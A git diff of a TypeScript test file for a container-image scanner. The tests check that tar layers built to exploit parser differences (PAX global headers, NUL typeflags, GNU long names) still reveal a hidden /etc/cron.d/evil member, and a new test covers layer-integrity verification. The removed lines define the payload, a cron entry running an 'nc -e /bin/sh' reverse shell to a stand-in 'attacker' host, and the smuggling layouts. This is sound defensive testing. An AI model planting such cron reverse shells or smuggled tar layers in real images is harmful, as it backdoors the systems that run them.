@@ -23,40 +23,44 @@
  */
 import { test, before } from 'node:test';
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
 import { join } from 'node:path';
-import { header, paxRecord } from '../sources/tar/helpers.js';
-import { assertBuilt, assertNoCrash, legacySave, runCli, tempDir } from '../sources/archive/hostile-helpers.js';
+import { verifyLayerIntegrity } from '../../src/core/verify/integrity/index.js';
+import { assertBuilt, assertNoCrash, runCli, tempDir } from '../sources/archive/hostile-helpers.js';
+import { DIVERGENT, divergentArchive } from './crafted.js';
 
 before(assertBuilt);
 
-const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
-const EVIL = Buffer.from('* * * * * root nc -e /bin/sh attacker 4444\n');
-const layer = (extra: Buffer[]) =>
-  Buffer.concat([header({ name: 'etc/', type: '5', mode: 0o755 }), header({ name: 'etc/hostname', body: Buffer.from('box\n') }), pad(Buffer.from('box\n')), ...extra, Buffer.alloc(1024)]);
-
-const g = paxRecord('path', 'etc/motd');
-const hidden = Buffer.concat([header({ name: 'etc/cron.d/evil', body: EVIL }), pad(EVIL)]);
-const ln = Buffer.from('etc/cron.d/evil\0');
-const px = paxRecord('path', 'etc/motd');
-
-const CASES: [string, Buffer][] = [
-  ['A: PAX global header', layer([header({ name: 'pax_global_header', type: 'g', size: g.length }), pad(g), header({ name: 'etc/cron.d/evil', body: EVIL }), pad(EVIL)])],
-  ['B: typeflag NUL with a trailing slash', layer([header({ name: 'var/cache/', type: '\0', size: hidden.length }), hidden])],
-  [
-    'C: GNU long name and PAX path',
-    layer([header({ name: '././@LongLink', type: 'L', size: ln.length }), pad(ln), header({ name: 'PaxHeaders/x', type: 'x', size: px.length }), pad(px), header({ name: 'placeholder', body: EVIL }), pad(EVIL)]),
-  ],
-];
-
-for (const [name, l] of CASES) {
+for (const [tag, name, layer] of DIVERGENT) {
   test(`the engine extracts /etc/cron.d/evil; layerscope must list it (${name})`, async (t) => {
     const { dir, cleanup } = tempDir();
     t.after(cleanup);
     const file = join(dir, 'img.tar');
-    writeFileSync(file, legacySave([{ tag: 'x:1', layers: [l] }]));
+    writeFileSync(file, divergentArchive(tag, layer));
     const r = await runCli(['files', file, '--verify', '--format', 'json']);
     assertNoCrash(r);
     assert.match(r.stdout, /"\/etc\/cron\.d\/evil"/, `files --verify lists:\n${r.stdout}\n${r.stderr}`);
   });
 }
+
+/**
+ * The same three layers as the engine keeps them: fixtures/engine-layers.tar holds, for each, the
+ * tar-split.json.gz and the diff dir Docker 26.1.5 (overlay2) wrote when it loaded the archives above
+ * (`docker load`, nothing touched afterwards; made with test/attack/engine-confirm.sh's engine, copied out of
+ * image/overlay2/layerdb/sha256/<chainID>/ and overlay2/<cache-id>/diff), plus `ctl`, a plain layer of the same
+ * engine. `ctl` verifies; t1..t3 are reported as tampered (t3 even with a computed DiffID that differs), because
+ * the integrity check decodes tar-split's headers with the same parser (src/core/verify/integrity/tarsplit.ts).
+ */
+test('integrity of untouched engine-made layers holding these members: no finding', async (t) => {
+  const { dir, cleanup } = tempDir();
+  t.after(cleanup);
+  execFileSync('tar', ['-x', '-p', '--numeric-owner', '-f', join(import.meta.dirname, 'fixtures/engine-layers.tar'), '-C', dir]);
+  const result: Record<string, string[]> = {};
+  for (const n of ['ctl', 't1', 't2', 't3']) {
+    const d = join(dir, n);
+    const r = await verifyLayerIntegrity({ tarSplitPath: join(d, 'tar-split.json.gz'), diffDir: join(d, 'diff'), diffId: readFileSync(join(d, 'diffid'), 'utf8') });
+    result[n] = [...(r.ok ? [] : ['not ok']), ...r.findings.map((f) => `${f.kind} ${f.path}`)];
+  }
+  assert.deepEqual(result, { ctl: [], t1: [], t2: [], t3: [] });
+});
